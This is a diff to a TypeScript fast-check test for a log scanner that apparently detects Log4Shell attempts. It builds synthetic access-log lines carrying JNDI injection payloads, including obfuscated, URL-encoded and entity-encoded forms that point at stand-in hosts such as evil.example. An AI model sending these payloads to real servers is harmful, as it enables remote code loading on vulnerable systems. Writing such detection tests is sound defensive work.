@@ -163,28 +163,25 @@ test('what a record of a thousand attacks costs grows with their number, not wit
   expect(asked).toBeLessThan(3_000)
 })
 
-const sent = fc.constantFrom(
-  attack,
-  '%24%7Bjndi:ldap://evil.example:1389/a%7D',
-  '${${lower:j}ndi:ldap://other.example/a}',
-  '${jndi:ldap://open.example/a',
-  `x ${attack} \${jndi:rmi://second.example/b`,
-  '${jndi:ldap://evil.example:1389/a&#125',
-  '&#36;{jndi:ldap://evil.example:1389/a&#125;',
-  '}',
-  '%7D',
-  ';',
-  '$',
-  'curl/7.79',
-)
+const request = fc.record({
+  // What stands there is no field, and may be the first that is written so.
+  ident: fc.constantFrom('-', '-', '%24%7Bjndi:ldap://evil.example:1389/a%7D', '$', '{'),
+  referer: fc.constantFrom('-', '-', '}', '%24%7Bjndi:ldap://evil.example:1389/a%7D'),
+  agent: fc.constantFrom(
+    attack,
+    '&#36;{jndi:ldap://evil.example:1389/a&#125;',
+    `${attack} \${jndi:rmi://second.example/b`,
+    '${jndi:ldap://evil.example:1389/a',
+  ),
+  behind: fc.constantFrom('', '', ' "}"', '}'),
+})
 
 test('a text that comes again is told as it is written there, whatever stands around it', () => {
-  const request = fc.record({ path: sent, referer: sent, agent: sent, behind: fc.constantFrom('', ' ', '}', ' "}"') })
   fc.assert(
-    fc.property(fc.array(request, { minLength: 2, maxLength: 7 }), (requests) => {
+    fc.property(fc.array(request, { minLength: 2, maxLength: 6 }), (requests) => {
       const lines = requests.map(
-        ({ path, referer, agent, behind }) =>
-          `203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET /${path} HTTP/1.1" 200 6 "${referer}" "${agent}"${behind}\n`,
+        ({ ident, referer, agent, behind }) =>
+          `203.0.113.9 ${ident} - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 6 "${referer}" "${agent}"${behind}\n`,
       )
       const told = (log: string, line: number) =>
         huntIn(log)
@@ -194,5 +191,6 @@ test('a text that comes again is told as it is written there, whatever stands ar
       for (let i = 0; i < lines.length; i++)
         expect(told(lines.join(''), i + 1)).toEqual(told(lines.slice(i).join(''), 1))
     }),
+    { numRuns: 300 },
   )
 })
